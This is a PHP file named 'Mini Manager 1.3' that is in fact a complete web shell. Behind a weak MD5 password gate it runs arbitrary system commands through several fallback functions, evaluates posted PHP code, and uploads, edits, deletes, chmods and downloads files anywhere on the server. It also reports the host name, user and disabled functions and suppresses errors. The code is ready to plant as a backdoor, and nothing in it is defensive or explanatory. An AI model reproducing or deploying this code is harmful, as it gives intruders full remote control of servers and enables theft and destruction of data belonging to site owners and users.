<?php
/* Mini Manager 1.3 */
@session_start();
@set_time_limit(0);
@error_reporting(0);
$auth_pass = "21232f297a57a5a743894a0e4a801fc3";
if (!empty($auth_pass)) {
    if (isset($_POST['pass']) && (md5($_POST['pass']) == $auth_pass)) $_SESSION['auth'] = 1;
    if (empty($_SESSION['auth'])) {
        echo '<form method=post><input type=password name=pass><input type=submit value=">>"></form>';
        exit;
    }
}
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
@chdir($dir);
function perms($f) { return substr(sprintf('%o', @fileperms($f)), -4); }
function ex($c) {
    if (function_exists('system')) { ob_start(); system($c); $o = ob_get_clean(); }
    elseif (function_exists('shell_exec')) { $o = shell_exec($c); }
    elseif (function_exists('passthru')) { ob_start(); passthru($c); $o = ob_get_clean(); }
    elseif (function_exists('exec')) { exec($c, $a); $o = implode("\n", $a); }
    elseif (is_resource($h = popen($c, 'r'))) { $o = ''; while (!feof($h)) $o .= fread($h, 1024); pclose($h); }
    else { $o = 'no exec'; }
    return $o;
}
echo '<html><head><title>' . php_uname('n') . '</title></head><body>';
echo '<b>Uname:</b> ' . php_uname() . '<br><b>User:</b> ' . get_current_user() . ' (' . getmyuid() . ')<br>';
echo '<b>Safe mode:</b> ' . (ini_get('safe_mode') ? 'ON' : 'OFF') . ' <b>Disabled:</b> ' . ini_get('disable_functions') . '<br>';
if (isset($_GET['act'])) {
    switch ($_GET['act']) {
        case 'cmd':
            echo '<pre>' . htmlspecialchars(ex($_POST['c'])) . '</pre>';
            break;
        case 'upload':
            if (@move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $_FILES['f']['name'])) echo 'Uploaded';
            break;
        case 'edit':
            if (isset($_POST['src'])) { file_put_contents($_GET['f'], $_POST['src']); }
            echo '<form method=post><textarea name=src cols=120 rows=30>' . htmlspecialchars(@file_get_contents($_GET['f'])) . '</textarea><input type=submit></form>';
            break;
        case 'del':
            @unlink($_GET['f']);
            break;
        case 'chmod':
            @chmod($_GET['f'], octdec($_POST['m']));
            break;
        case 'eval':
            eval($_POST['code']);
            break;
        case 'dl':
            header('Content-Disposition: attachment; filename=' . basename($_GET['f']));
            readfile($_GET['f']);
            exit;
    }
}
echo '<table>';
foreach (scandir($dir) as $f) {
    echo '<tr><td><a href="?d=' . urlencode($dir . '/' . $f) . '">' . htmlspecialchars($f) . '</a></td><td>' . perms($dir . '/' . $f) . '</td>';
    echo '<td><a href="?act=edit&f=' . urlencode($dir . '/' . $f) . '">edit</a> <a href="?act=del&f=' . urlencode($dir . '/' . $f) . '">del</a></td></tr>';
}
echo '</table>';
echo '<form method=post action="?act=cmd&d=' . urlencode($dir) . '"><input name=c size=80><input type=submit value=Exec></form>';
echo '<form method=post enctype=multipart/form-data action="?act=upload&d=' . urlencode($dir) . '"><input type=file name=f><input type=submit value=Upload></form>';
echo '</body></html>';
